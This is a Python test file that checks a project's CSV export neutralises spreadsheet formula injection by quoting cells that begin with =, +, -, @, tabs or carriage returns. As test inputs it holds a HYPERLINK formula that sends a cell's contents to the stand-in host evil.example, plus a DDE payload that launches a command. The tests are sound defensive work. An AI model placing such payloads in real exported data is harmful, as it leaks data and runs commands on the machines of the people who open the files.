"""What stands in a table for a spreadsheet runs there as nothing."""

from __future__ import annotations

import csv

import pytest

from motorgraph.cells import inert
from motorgraph.routes.search import _csv
from tests.running import Service

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-"])
def test_a_text_that_would_be_a_formula_is_one_no_more(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ford", "-5", "+5.25", "12", "2026-02-24", "a=b", "'x", "https://e/x"])
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_a_label_is_no_formula_in_a_table_of_what_was_found() -> None:
    written = _csv([{"iri": "https://e/x", "label": FORMULA, "score": -1.5}]).decode()
    assert [(row["label"], row["score"]) for row in csv.DictReader(written.splitlines())] == [(f"'{FORMULA}", "-1.5")]


def test_the_tables_of_sparql_are_exact_as_the_standard_has_it(plain: Service, graph: str) -> None:
    quoted = FORMULA.replace('"', '\\"')
    assert plain.put(graph, f'<a:s> <a:p> "{quoted}" .').status_code == 201
    query = f"SELECT ?o {{ GRAPH <{graph}> {{ ?s ?p ?o }} }}"
    assert list(csv.reader(plain.query(query, "text/csv").text.splitlines())) == [["o"], [FORMULA]]
